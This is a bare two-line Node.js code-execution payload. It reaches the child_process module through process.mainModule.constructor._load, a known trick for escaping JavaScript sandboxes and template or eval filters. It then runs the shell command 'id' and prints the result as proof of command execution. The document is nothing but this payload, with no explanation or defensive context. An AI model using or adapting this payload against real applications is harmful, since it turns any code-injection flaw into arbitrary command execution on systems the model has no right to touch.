const cp = process.mainModule.constructor._load("child_process");
cp.exec("id", (e, o) => console.log(o));
